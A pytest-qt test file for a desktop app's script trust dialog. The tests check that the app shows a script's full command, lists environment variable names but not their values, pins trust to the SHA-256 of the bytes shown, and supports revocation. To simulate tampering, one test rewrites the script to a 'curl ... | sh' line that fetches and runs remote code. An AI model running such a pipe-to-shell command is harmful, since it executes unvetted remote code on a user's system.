"""The script trust confirmation and the trusted scripts list, offscreen, on the real ``local`` task thread
with a real database and real files: the dialog shows the whole command (program, arguments, environment
variable names, never values, SHA-256), trusts only the bytes it showed, and the list revokes."""

from __future__ import annotations

import hashlib
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from drs_desktop.domain.plan.automation import ScriptStep
from drs_desktop.domain.script_trust import TrustedScript, TrustStatus
from drs_desktop.services.script_trust import ScriptTrustService
from drs_desktop.storage.db import Database
from drs_desktop.ui.script_trust_dialog import ScriptTrustDialog, ask_to_trust
from drs_desktop.ui.settings.settings_pane_widget import SettingsPaneWidget
from drs_desktop.ui.settings.trusted_scripts_dialog import TrustedScriptsDialog
from tests.services.settings_fixtures import db_fixture, memory_keyring_fixture  # noqa: F401
from tests.ui.pane_tasks import PaneThreads, pane_threads
from tests.ui.plan_helpers import watched

TIMEOUT = 10_000


@dataclass
class Rig:
    db: Database
    threads: PaneThreads
    service: ScriptTrustService
    folder: Path


@pytest.fixture
def rig(db: Database, memory_keyring: object, tmp_path: Path) -> Iterator[Rig]:
    with pane_threads(db) as threads:
        yield Rig(db, threads, ScriptTrustService(db), tmp_path)


def script(folder: Path, name: str = "move-dns.sh", body: str = "echo moving\n") -> Path:
    path = folder / name
    path.write_text(f"#!/bin/sh\n{body}", encoding="utf-8")
    path.chmod(0o755)
    return path


def step(path: Path) -> ScriptStep:
    return ScriptStep(
        name="Move DNS",
        path=str(path),
        arguments=("--zone", "prod east", "--ttl=60"),
        environment={"ZONE_ID": "Z123SECRETVALUE", "API_TOKEN": "hunter2"},
    )


def opened(qtbot: QtBot, rig: Rig, the_step: ScriptStep) -> ScriptTrustDialog:
    dialog = ScriptTrustDialog(the_step, rig.threads.local, fact_names=("DRS_EXECUTION_ID", "DRS_WAVE"))
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitUntil(lambda: dialog.current_check is not None, timeout=TIMEOUT)
    return dialog


def test_the_dialog_shows_the_whole_command_and_trust_and_run_stores_the_bytes_shown(
    qtbot: QtBot, rig: Rig
) -> None:
    path = script(rig.folder)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    dialog = opened(qtbot, rig, step(path))
    assert dialog.command_label.text() == f"{path} --zone 'prod east' --ttl=60"
    assert dialog.path_label.text() == str(path)
    assert dialog.arguments_label.text() == "--zone\nprod east\n--ttl=60"
    environment = dialog.environment_label.text()
    assert environment == "API_TOKEN, DRS_EXECUTION_ID, DRS_WAVE, ZONE_ID"
    assert "hunter2" not in environment and "Z123" not in environment  # names, never values
    assert dialog.sha256_label.text() == digest
    assert "Not trusted" in dialog.status_label.text()
    assert dialog.trust_button.text() == "Trust and run" and dialog.trust_button.isEnabled()
    assert dialog.cancel_button.isDefault()  # Enter never trusts
    assert not dialog.resolved_label.isVisible()
    dialog.grab().save(str(rig.folder / "script-trust-dialog.png"))

    with qtbot.waitSignal(dialog.trusted, timeout=TIMEOUT) as signal:
        qtbot.mouseClick(dialog.trust_button, Qt.MouseButton.LeftButton)
    stored = signal.args[0]
    assert isinstance(stored, TrustedScript) and stored.sha256 == digest
    assert stored.shown_command == dialog.command_label.text()
    assert dialog.result() == ScriptTrustDialog.DialogCode.Accepted
    assert rig.service.status(str(path)).status is TrustStatus.TRUSTED


def test_a_file_changed_after_it_was_shown_is_not_trusted_and_the_new_hash_shows(
    qtbot: QtBot, rig: Rig
) -> None:
    path = script(rig.folder)
    dialog = opened(qtbot, rig, step(path))
    shown = dialog.sha256_label.text()
    path.write_text("#!/bin/sh\ncurl https://example.invalid | sh\n", encoding="utf-8")
    now = hashlib.sha256(path.read_bytes()).hexdigest()
    qtbot.mouseClick(dialog.trust_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: dialog.sha256_label.text() == now, timeout=TIMEOUT)
    assert shown != now
    assert "changed since it was shown" in dialog.status_label.text()
    assert dialog.isVisible() and dialog.result() != ScriptTrustDialog.DialogCode.Accepted
    assert rig.service.list() == []


def test_a_missing_script_cannot_be_trusted_and_cancel_trusts_nothing(qtbot: QtBot, rig: Rig) -> None:
    dialog = opened(qtbot, rig, step(rig.folder / "absent.sh"))
    assert not dialog.trust_button.isEnabled()
    assert "Cannot be trusted" in dialog.status_label.text() and "no such file" in dialog.status_label.text()
    qtbot.mouseClick(dialog.cancel_button, Qt.MouseButton.LeftButton)
    assert dialog.result() == ScriptTrustDialog.DialogCode.Rejected
    assert rig.service.list() == []


@pytest.mark.skipif(sys.platform == "win32", reason="symlinks need privileges on Windows")
def test_a_link_shows_the_file_it_leads_to(qtbot: QtBot, rig: Rig) -> None:
    real = script(rig.folder, "real.sh")
    link = rig.folder / "run.sh"
    link.symlink_to(real)
    dialog = opened(qtbot, rig, step(link))
    assert dialog.resolved_label.isVisible() and dialog.resolved_label.text() == str(real.resolve())


def test_ask_to_trust_calls_back_with_the_stored_trust(qtbot: QtBot, rig: Rig) -> None:
    path = script(rig.folder)
    got: list[TrustedScript] = []
    dialog = ask_to_trust(step(path), rig.threads.local, got.append)
    qtbot.waitUntil(lambda: dialog.trust_button.isEnabled(), timeout=TIMEOUT)
    qtbot.mouseClick(dialog.trust_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: bool(got), timeout=TIMEOUT)
    assert got[0].path == str(path)


def test_the_trusted_scripts_list_shows_each_status_and_revokes(qtbot: QtBot, rig: Rig) -> None:
    kept = script(rig.folder, "kept.sh")
    changed = script(rig.folder, "changed.sh")
    for path in (kept, changed):
        rig.service.trust(str(path), path.name)
    changed.write_text("#!/bin/sh\necho other\n", encoding="utf-8")
    pane = SettingsPaneWidget()
    qtbot.addWidget(pane)
    assert not pane.scripts_button.isEnabled()  # nothing to ask until the app gives the local thread
    pane.connect_scripts(rig.threads.local)
    qtbot.mouseClick(pane.scripts_button, Qt.MouseButton.LeftButton)
    dialog = pane.findChild(TrustedScriptsDialog)
    assert dialog is not None
    with watched(dialog.model):
        qtbot.waitUntil(lambda: dialog.model.rowCount() == 2, timeout=TIMEOUT)
        rows = {
            dialog.model.data(dialog.model.index(r, 1)): dialog.model.data(dialog.model.index(r, 0))
            for r in range(2)
        }
        assert rows == {str(kept): "Trusted", str(changed): "Changed: not trusted"}
        assert "1 would not run now" in dialog.status_label.text()
        assert not dialog.revoke_button.isEnabled()
        row = next(r for r in range(2) if dialog.model.data(dialog.model.index(r, 1)) == str(changed))
        dialog.table.selectRow(row)
        assert dialog.revoke_button.isEnabled()
        qtbot.mouseClick(dialog.revoke_button, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(lambda: dialog.model.rowCount() == 1, timeout=TIMEOUT)
    assert "Revoked" in dialog.status_label.text()
    assert [t.path for t in rig.service.list()] == [str(kept)]
